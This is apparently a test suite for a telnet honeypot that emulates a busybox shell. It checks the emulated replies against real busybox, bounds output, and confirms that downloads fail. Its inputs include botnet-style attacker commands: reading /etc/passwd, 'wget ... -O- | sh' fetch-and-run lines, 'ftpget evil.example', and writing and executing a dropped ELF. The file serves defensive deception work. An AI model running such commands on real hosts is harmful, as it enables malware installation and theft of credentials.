import shutil

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lures.serve import visit
from propolis.lures.telnet.persona import host
from propolis.lures.telnet.record import HOST, shell
from propolis.lures.telnet.shell import NESTED, OUTPUT_BYTES, Shell
from propolis.machine.host import host_of

LINES = r"""
enable
system
shell
linuxshell
/bin/busybox ECCHI
/bin/busybox PLFLN; echo x
echo -e '\x67\x61\x79'
echo -ne '\x41'
echo -n a
echo a b   c
id
uname
uname -a
uname -s -m
uname -m
foo
./foo
/foo
cd /x
cat /x
cat /etc
rm /x
rm -f /x
ls /x
ls -a
chmod 777 x
mkdir /etc
mkdir /x/y
cat /etc/passwd
cat /etc/passwd | head -n 1
cat /etc/passwd | wc -l
grep root /etc/passwd
true && echo y || echo n
false && echo y || echo n
echo $?
foo; echo $?
echo a > t; cat t; rm t
echo b >> u && cat u
cp u v; ls
rm u v
echo x > /proc/x
echo x > /nowhere/x
> .f; cat .f; rm .f
cd /tmp
pwd
cd
pwd
which wget nothing
printf a
whoami
umask
a b c; d
echo 'q;w' "e"
#x
X=1
nproc
hostname
busybox
help
mount
cat /proc/mounts
cat /proc/filesystems
dd if=/proc/self/exe bs=22 count=1 2>/dev/null
echo z > w; ./w
chmod +x w; rm w
(echo x)
kill
cat x 2>/dev/null
/bin/busybox wget; /bin/busybox tftp; /bin/busybox NONE
wget http://192.0.2.1.invalid/x
""".strip().splitlines()


@pytest.mark.root
@pytest.mark.skipif(not shutil.which("busybox"), reason="Debian's busybox is not installed")
def test_the_shell_answers_as_busybox_does() -> None:
    lure = Shell(host("", host_of(b"s")), visit())
    with shell() as real:
        for line in LINES:
            said, mine = real.ask(line), lure.run(line)
            said = host("", host_of(b"s")).fill(said)
            assert HOST not in said
            assert mine.replace("-sh: ", "sh: ") == said, line


def session() -> Shell:
    return Shell(host("", host_of(b"s")), visit())


def test_a_dropped_file_can_be_written_read_and_run() -> None:
    lure = session()
    assert lure.run("echo -ne '\\x7f\\x45\\x4c\\x46' > /tmp/.x; cat /tmp/.x") == "\x7fELF"
    assert lure.run("/tmp/.x") == "-sh: /tmp/.x: Permission denied\n"
    assert lure.run("chmod 777 /tmp/.x && /tmp/.x; echo $?") == "0\n"


def test_downloads_fail_without_a_way_out() -> None:
    lure = session()
    assert lure.run("/bin/busybox wget http://198.51.100.9:8080/a -O- | sh").endswith("") is True
    assert "(198.51.100.9): Connection refused" in lure.run("wget http://198.51.100.9/a")
    assert lure.run("ftpget evil.example x y") == "ftpget: bad address 'evil.example'\n"


def test_shells_nest_to_a_bound_and_are_left_one_by_one() -> None:
    lure = session()
    for _ in range(NESTED * 2):
        assert "built-in shell (ash)" in lure.run("sh")
    assert lure.run("foo") == "sh: foo: not found\n"
    for _ in range(NESTED):
        assert not lure.is_over
        lure.run("exit")
    assert lure.is_over


def test_the_own_connection_is_seen() -> None:
    assert "192.0.2.1:telnet" in session().run("netstat")
    assert "ESTABLISHED" in session().run("netstat -an")


def test_output_is_bounded() -> None:
    lure = session()
    lure.run("cat /proc/cpuinfo > a")
    for _ in range(12):
        lure.run("cat a a a > b; cp b a")
    assert len(lure.run(";".join(["cat a a a"] * 60))) <= OUTPUT_BYTES


def test_sh_dash_c_does_not_recurse_without_end() -> None:
    lure = session()
    line = "echo deep"
    for _ in range(5):
        line = "sh -c " + "'" + line.replace("'", "'\\''") + "'"
    assert lure.run(line[:4_000]) in ("deep\n", "")
    assert lure.run("sh -c 'echo a'") == "a\n"


WORDS = st.sampled_from(
    [
        "cat",
        "echo",
        "dd",
        "cp",
        "rm",
        "ls",
        "mkdir",
        "/tmp/a",
        "-e",
        "if=",
        "bs=0",
        "count=9",
        "busybox",
        "sh",
        "-c",
    ]
)


@given(st.lists(st.lists(WORDS | st.text(max_size=6), max_size=6), max_size=8))
@settings(max_examples=200, deadline=None)
def test_any_lines_survive(lines: list[list[str]]) -> None:
    lure = session()
    for words in lines:
        assert len(lure.run(" ".join(words))) <= OUTPUT_BYTES
        assert lure.prompt.endswith("# ")
